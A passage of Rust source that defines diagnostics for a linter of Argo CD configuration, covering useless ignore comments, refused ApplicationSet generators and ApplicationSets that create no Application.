        example: "",
        instead: "",
    }

    #[cfg(feature = "files")]
    TW605 UselessIgnore { error: String, instead: String } Warning {
        summary: "A comment `telewarden: ignore` has no effect.",
        message: "{error}",
        help: help(instead),
        why: "A comment `# telewarden: ignore TW405 because …` silences warnings on its line, or on the next line where it \
              has a line of its own. Errors cannot be silenced. A comment that silences nothing would hide a later warning.",
        example: "",
        instead: "",
    }

    #[cfg(feature = "application-sets")]
    TW606 Generator { error: String, instead: Option<String> } Error {
        summary: "Argo CD refuses a generator of an ApplicationSet.",
        message: "{error}",
        help: instead,
        why: "With such a generator the ApplicationSet is refused, or creates nothing \
              (<https://argo-cd.readthedocs.io/en/stable/operator-manual/applicationset/Generators/>).",
        example: "",
        instead: "",
    }
    #[cfg(feature = "application-sets")]
    TW607 NoApplication { } Warning {
        summary: "An ApplicationSet creates no Application.",
        message: "this ApplicationSet creates no Application, so none was checked",
        help: help("add elements to its generators"),
        why: "What its template comes to is known only with elements.",
        example: "",
        instead: "",
    }
}
